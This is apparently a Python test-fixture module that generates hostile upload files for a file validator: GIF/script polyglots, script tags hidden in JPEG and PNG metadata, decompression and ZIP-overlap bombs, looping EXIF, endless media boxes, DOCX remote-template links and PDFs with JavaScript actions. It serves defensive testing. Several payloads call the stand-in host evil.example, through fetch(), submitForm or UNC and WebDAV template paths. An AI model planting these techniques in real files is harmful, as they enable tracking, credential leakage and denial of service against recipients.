"""Files made to be two things at once, never to end, to unpack without measure, or to call somebody else."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from portfolio.core.contents.families import ACTING
from tests.core import hostile
from tests.core.hostile import box, chunk, package, pdf, picture, word

ELSEWHERE = "evil.example"
SCRIPT = b"<script>fetch('https://evil.example/ran');alert(1)</script>"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
JPEG, PNG, GIF, PDF = "image/jpeg", "image/png", "image/gif", "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TEXT = "text/plain; charset=utf-8"


@dataclass(frozen=True)
class Nasty:
    """A file, and what becomes of it: the type as which it lies inert, or the code of the reason for refusing it."""

    name: str
    data: bytes
    verdict: str

    @property
    def refused(self) -> bool:
        return self.verdict.startswith("file-")


def gif_and_script() -> bytes:
    """A GIF whose width reads as the beginning of a comment, so that all of it is a script too."""
    sent = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(sent, "GIF")
    made = sent.getvalue()
    assert made[6:8] == b"/*"
    return made + b"*/=1;alert(1);//"


def said_in_a_comment() -> bytes:
    sent = io.BytesIO()
    Image.new("RGB", (8, 8)).save(sent, "JPEG", comment=SCRIPT)
    return sent.getvalue()


def png(*more: bytes, side: int = 4) -> bytes:
    """A small PNG with chunks of ours before its picture."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress((b"\0" + bytes(3 * side)) * side))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + data + chunk(b"IEND", b"")


def packed_words(kind: bytes = b"zTXt") -> bytes:
    return png(chunk(kind, b"words\0\0" + zlib.compress(bytes(64 * 1024 * 1024))))


def huge_gif() -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02"


def huge_jpeg() -> bytes:
    """A photograph whose head says that it is 65,500 points wide and high."""
    made = picture()
    place = made.index(b"\xff\xc0")
    return made[: place + 5] + struct.pack(">HH", 65500, 65500) + made[place + 9 :]


def huge_webp() -> bytes:
    head = b"\x10\0\0\0" + (16383).to_bytes(3, "little") * 2
    body = b"WEBPVP8X" + struct.pack("<I", 10) + head + b"VP8L" + struct.pack("<I", 6) + b"\x2f\xff\xff\xff\xff\0"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def with_exif(exif: bytes) -> bytes:
    said = b"Exif\0\0" + exif
    plain = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(plain, "JPEG")
    made = plain.getvalue()
    return made[:2] + b"\xff\xe1" + struct.pack(">H", 2 + len(said)) + said + made[2:]


def entry(tag: int, kind: int, count: int, value: int) -> bytes:
    return struct.pack("<HHII", tag, kind, count, value)


def directory(*entries: bytes, after: int = 0) -> bytes:
    listed = struct.pack("<H", len(entries)) + b"".join(entries) + struct.pack("<I", after)
    return b"II*\0" + struct.pack("<I", 8) + listed


BROKEN_EXIF = {
    "torn": b"II*\0\x08\0\0\0\xff",
    "noise": bytes(range(256)) * 8,
    "nowhere": b"II*\0\xff\xff\xff\x7f",
    "loop": directory(entry(0x8769, 4, 1, 8), after=8),
    "endless": directory(entry(0x010E, 2, 0xFFFFFFF0, 8)),
    "turned": directory(entry(0x0112, 3, 1, 99)),
    "empty": b"",
}


def many_frames() -> bytes:
    sent = io.BytesIO()
    first, *rest = (Image.new("P", (8, 8), number % 256) for number in range(2000))
    first.save(sent, "GIF", save_all=True, append_images=rest)
    return sent.getvalue()


def relations(kind: str, target: str, encoding: str = "utf-8", before: str = "") -> bytes:
    said = (
        f'<?xml version="1.0" encoding="{encoding}"?>{before}<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1"'
        f' Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return said.encode(encoding)


def related(said: bytes, part: str = "word/_rels/settings.xml.rels") -> bytes:
    return word({part: said})


def calling() -> Iterator[Nasty]:
    """Documents that call other computers when they are opened, and honest ones that do not."""
    template = "attachedTemplate"
    remote = (
        f"https://{ELSEWHERE}/t.dotm", f"http://{ELSEWHERE}/t.dotm", f"ftp://{ELSEWHERE}/t", f"//{ELSEWHERE}/t.dotm",
        f"\\\\{ELSEWHERE}\\share\\t.dotm", f"file://{ELSEWHERE}/t.dotm", f"file:///\\\\{ELSEWHERE}\\t.dotm",
        f"mhtml:https://{ELSEWHERE}/x.html!x", "\\\\203.0.113.9@SSL\\t", " HTTPS://Evil.Example/t", "http://[2001:db8::1]/",
        "http://3405803785/t.dotm",
    )  # fmt: skip
    for number, target in enumerate(remote):
        yield Nasty(f"template{number}.docx", related(relations(template, target)), "file-remote")
    page = f"https://{ELSEWHERE}/"
    for kind in ("oleObject", "frame", "subDocument", "aFChunk"):
        yield Nasty(f"{kind}.docx", related(relations(kind, page), "word/_rels/document.xml.rels"), "file-remote")
    yield Nasty("wide.docx", related(relations(template, page, "utf-16")), "file-remote")
    bomb = '<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]>'
    yield Nasty("entities.docx", related(relations(template, "t.dotm", before=bomb)), "file-broken")
    yield Nasty("odd.docx", related(b"<no"), "file-broken")
    yield Nasty("own.docx", related(relations(template, "file:///C:\\Users\\Ffion\\Normal.dotm")), DOCX)
    yield Nasty("college.docx", related(relations(template, "file:///\\\\coleg\\templates\\llythyr.dotx")), DOCX)
    yield Nasty("picture.docx", related(relations("image", page), "word/_rels/document.xml.rels"), DOCX)
    yield Nasty("link.docx", related(relations("hyperlink", page), "word/_rels/document.xml.rels"), DOCX)


def overlapping() -> bytes:
    """A ZIP of which a thousand parts share the same packed bytes."""
    made = io.BytesIO(word({"word/media/a.bin": bytes(900_000)}))
    with zipfile.ZipFile(made) as opened:
        shared, start = opened.getinfo("word/media/a.bin"), opened.start_dir
        parts = opened.infolist()
    listed = b"".join(_listed(one, one.filename) for one in parts)
    listed += b"".join(_listed(shared, f"word/media/{number}.bin") for number in range(1000))
    total = len(parts) + 1000
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, total, total, len(listed), start, 0)
    return made.getvalue()[:start] + listed + end


def _listed(one: zipfile.ZipInfo, name: str) -> bytes:
    sizes = struct.pack("<III", one.CRC, one.compress_size, one.file_size)
    rest = struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, one.header_offset)
    return b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, one.compress_type, 0, 0x21) + sizes + rest + name.encode()


def endless() -> Iterator[Nasty]:
    """Recordings that say they go on beyond their end, or that hold nothing again and again."""
    head = box(b"ftyp", b"isom" + bytes(4))
    yield Nasty("longer.mp4", head + struct.pack(">I4s", 0x7FFFFFFF, b"moov") + bytes(100), "file-broken")
    yield Nasty("longest.mp4", head + struct.pack(">I4sQ", 1, b"moov", 2**64 - 1) + bytes(100), "file-broken")
    yield Nasty("turning.mp4", head + struct.pack(">I4sQ", 1, b"moov", 2**64 - 16) + bytes(100), "file-broken")
    yield Nasty("open.mp4", head + struct.pack(">I4s", 0, b"moov") + bytes(100), "file-broken")
    yield Nasty("standing.mp4", head + bytes(8) * 1000, "file-broken")
    yield Nasty("small.mp4", head + struct.pack(">I4s", 4, b"free") + bytes(100), "file-broken")
    yield Nasty("nothing.mp4", head + box(b"free", b"") * 200_000, "file-too-much-inside")
    yield Nasty("nothing.wav", b"RIFF\xff\xff\xff\xffWAVE" + b"JUNK\0\0\0\0" * 200_000, "file-too-much-inside")
    yield Nasty("longer.wav", b"RIFF\xff\xff\xff\xffWAVE" + struct.pack("<4sI", b"fmt ", 0xFFFFFFFF), "file-broken")
    yield Nasty("tag.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(100), "file-broken")
    yield Nasty("pages.ogg", b"OggS" + bytes(22) + b"\xff" * 256, "file-broken")


def object_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, the first of which is its catalogue."""
    made, places = b"%PDF-1.7\n", []
    for number, said in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, said)
    listed = b"".join(b"%010d 00000 n \n" % place for place in places)
    total = len(objects) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n"
    return made + end % (total, listed, total, len(made))


PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
RUNS = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('https://evil.example'))>>>>"


ALERT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def acting() -> Iterator[Nasty]:
    """Where a PDF may say what is to run, and what says nothing but how a number is written or where a link leads."""
    root = b"<</Type/Catalog/Pages 2 0 R%s>>"
    for name, said in {
        "names": b"/Names<</JavaScript<</Names[(a)%s]>>>>" % ALERT,
        "closing": b"/AA<</WC%s>>" % ALERT,
        "next": b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % ALERT,
        "address": b"/OpenAction<</S/URI/URI(https://evil.example/)>>",
        "hidden": b"/#4FpenAction<</S/J#61vaScript/JS<617070>>>",
        "field": b"/AcroForm<</Fields[<</T(a)/Kids[<</T(b)/AA<</F%s>>>>]>>]>>" % ALERT,
    }.items():
        yield Nasty(f"{name}.pdf", object_pdf(root % said, PAGES, PAGE), ACTING)
    for name, said in {"seen": b"/AA<</O%s>>", "pressed": b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A%s>>]"}.items():
        page = PAGE[:-2] + said % ALERT + b">>"
        yield Nasty(f"{name}.pdf", object_pdf(root % b"", PAGES, page), ACTING)
    number = b'<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>'
    form = b"/AcroForm<</Fields[<</T(a)/AA<</F%s>>>>]>>" % number
    yield Nasty("form.pdf", object_pdf(root % form, PAGES, PAGE), PDF)
    opens = b"/OpenAction[3 0 R/Fit]"
    link = PAGE[:-2] + b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://evil.example/)>>>>]>>"
    yield Nasty("link.pdf", object_pdf(root % opens, PAGES, link), PDF)


def documents() -> Iterator[Nasty]:
    yield Nasty("script.pdf", object_pdf(RUNS, PAGES, PAGE), ACTING)
    yield from acting()
    round_ = b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
    yield Nasty("round.pdf", object_pdf(b"<</Type/Catalog/Pages 2 0 R>>", round_), "file-broken")
    yield Nasty("both.pdf", pdf() + package({"a.txt": b"a"}), PDF)
    yield Nasty("both.zip", package({"a.pdf": pdf()}) + pdf(), "file-type")
    yield Nasty("both.docx", pdf() + word(), PDF)
    yield Nasty("shortcut.url", b"[InternetShortcut]\r\nURL=https://evil.example/\r\n", "file-type")
    yield Nasty("late.txt", b"Words first.\n" + SCRIPT, TEXT)
    yield Nasty("letter.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT, TEXT)
    yield Nasty("seven.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", TEXT)
    yield Nasty("wide.txt", SCRIPT.decode().encode("utf-16"), "file-type")
    yield Nasty("many.docx", word({f"word/{number}.xml": b"" for number in range(10_001)}), "file-too-much-inside")
    yield Nasty("shared.docx", overlapping(), "file-too-much-inside")


def pictures() -> Iterator[Nasty]:
    yield Nasty("both.gif", gif_and_script(), GIF)
    yield Nasty("page.html", picture() + hostile.HTML, JPEG)
    yield Nasty("comment.jpg", said_in_a_comment(), JPEG)
    yield Nasty("archive.jpg", picture() + word(), JPEG)
    yield Nasty("words.png", png(chunk(b"tEXt", b"Title\0" + SCRIPT)), PNG)
    yield Nasty("frames.gif", many_frames(), GIF)
    yield Nasty("huge.png", hostile.huge_picture(60_000), "file-too-much-inside")
    yield Nasty("huge.gif", huge_gif(), "file-too-much-inside")
    yield Nasty("huge.jpg", huge_jpeg(), "file-too-much-inside")
    yield Nasty("huge.webp", huge_webp(), "file-too-much-inside")
    yield Nasty("packed.png", packed_words(), "file-broken")
    for what, exif in BROKEN_EXIF.items():
        yield Nasty(f"exif-{what}.jpg", with_exif(exif), JPEG)


def corpus() -> list[Nasty]:
    """All of them, with what is refused for its head or its name elsewhere."""
    known = (Nasty(*one) for one in hostile.REFUSED)
    return [*pictures(), *documents(), *calling(), *endless(), *known]
